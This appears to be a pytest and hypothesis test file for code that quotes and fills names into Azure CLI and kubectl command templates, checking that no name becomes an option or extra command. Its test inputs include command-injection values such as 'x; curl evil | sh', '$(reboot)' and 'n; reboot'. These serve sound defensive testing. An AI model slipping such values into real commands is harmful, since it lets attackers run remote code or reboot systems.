"""Commands are quoted and filled in one place: a name stays one word, is never an option, and hides nothing."""

from __future__ import annotations

import argparse
import shlex

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from aks_sandbox.steps import Command, Step, as_steps, distinct, lines_of, step

START = "az aks start -g {group} -n {cluster}"
NESTED = "az aks command invoke -g {group} -n {cluster} --command 'kubectl describe node {node}'"


@pytest.mark.parametrize(
    ("names", "line"),
    [
        pytest.param({"group": "g", "cluster": "c"}, "az aks start -g g -n c", id="plain names"),
        pytest.param({"group": "a (b)", "cluster": "c"}, 'az aks start -g "a (b)" -n c', id="a name to quote"),
        pytest.param({"group": "g"}, "az aks start -g g -n CLUSTER", id="a name that is not known"),
        pytest.param({"group": "$x", "cluster": "c"}, "az aks start -g '$x' -n c", id="a name that a shell would read"),
        pytest.param(
            {"group": "--help", "cluster": "c"}, "az aks start --resource-group=--help -n c", id="a name like an option"
        ),
        pytest.param({"group": "--", "cluster": "c"}, "az aks start -g GROUP -n c", id="the end of the options"),
        pytest.param({"group": "@file", "cluster": "c"}, "az aks start -g GROUP -n c", id="a name that az would read"),
        pytest.param({"group": "g\nrm", "cluster": "c"}, "az aks start -g GROUP -n c", id="a name with a line break"),
        pytest.param(
            {"group": "g\u202e", "cluster": "c"}, "az aks start -g GROUP -n c", id="a name with a hidden mark"
        ),
    ],
)
def test_a_command_is_filled_with_the_names_that_can_be_names(names: dict[str, str], line: str) -> None:
    assert str(Command(START, names)) == line


@pytest.mark.parametrize(
    ("node", "word"), [("aks-1", "aks-1"), ("n; reboot", "NODE"), ("--all", "NODE"), ("'", "NODE"), ("N", "NODE")]
)
def test_a_name_inside_a_command_for_kubectl_is_one_of_kubernetes(node: str, word: str) -> None:
    words = shlex.split(str(Command(NESTED, {"group": "g", "cluster": "c", "node": node})))
    assert shlex.split(words[-1]) == ["kubectl", "describe", "node", word]


def test_a_query_with_apostrophes_stays_readable() -> None:
    line = "az vm list-usage --query \"[?name.value=='cores']\""
    assert str(Command(line)) == line


@example("--help")
@example("x; curl evil | sh")
@example("$(reboot)")
@example("a'b\"c")
@given(st.text())
def test_no_name_becomes_more_than_one_word_or_an_option(name: str) -> None:
    words = shlex.split(str(Command(START, {"group": name, "cluster": name})))
    assert words[:3] == ["az", "aks", "start"]
    # A value is the word after its option or, where it looks like an option, what stands behind an equals sign.
    group, cluster = argparse_takes(words[3:])
    assert (group, cluster) in ((name, name), ("GROUP", "CLUSTER"))
    words = shlex.split(str(Command(NESTED, {"group": "g", "cluster": "c", "node": name})))
    assert shlex.split(words[-1]) in (["kubectl", "describe", "node", word] for word in (name, "NODE"))


def argparse_takes(words: list[str]) -> tuple[str, str]:
    """The group and the cluster as az's parser reads them."""
    parser = argparse.ArgumentParser(exit_on_error=False)
    parser.add_argument("-g", "--resource-group", dest="group")
    parser.add_argument("-n", "--name", dest="name")
    found = parser.parse_args(words)
    return found.group, found.name


def test_a_command_tells_which_names_it_misses() -> None:
    assert Command(START, {"group": "@x"}).missing == ("group", "cluster")
    assert Command(START, {"group": "g"}).filled({"cluster": "c", "group": "other"}).missing == ()


def test_names_that_a_command_has_are_not_replaced() -> None:
    assert str(Command(START, {"group": "g"}).filled({"cluster": "c", "group": "other"})) == "az aks start -g g -n c"


def test_a_step_reads_as_its_sentence_and_its_command_on_a_line_of_its_own() -> None:
    one = step("Start it:", START, {"group": "g", "cluster": "c"})
    assert lines_of([one, Step("Wait.")]) == ["Start it:", "az aks start -g g -n c", "Wait."]


def test_steps_that_read_the_same_are_one() -> None:
    one = step("Start it:", START, {"group": "g", "cluster": "c"})
    same = step("Start it:", START, group="g", cluster="c")
    assert distinct([one, Step("Wait."), same]) == (one, Step("Wait."))


def test_a_sentence_may_be_given_as_text() -> None:
    assert as_steps(["Wait.", "", Step("Look.")]) == (Step("Wait."), Step("Look."))


@given(st.from_regex(r"[a-z][a-z0-9_]{0,12}", fullmatch=True))
def test_whatever_a_name_of_a_pattern_is_called_it_is_filled(field: str) -> None:
    assert str(Command(f"az x -n {{{field}}}", {field: "value"})) == "az x -n value"
    assert Command(f"az x -n {{{field}}}").missing == (field,)


def test_one_of_several_names_of_a_kind_has_the_placeholder_of_its_kind() -> None:
    command = Command("kubectl delete namespace {namespace_0} {namespace_1}", {"namespace_1": "work"})
    assert str(command) == "kubectl delete namespace NAMESPACE work"
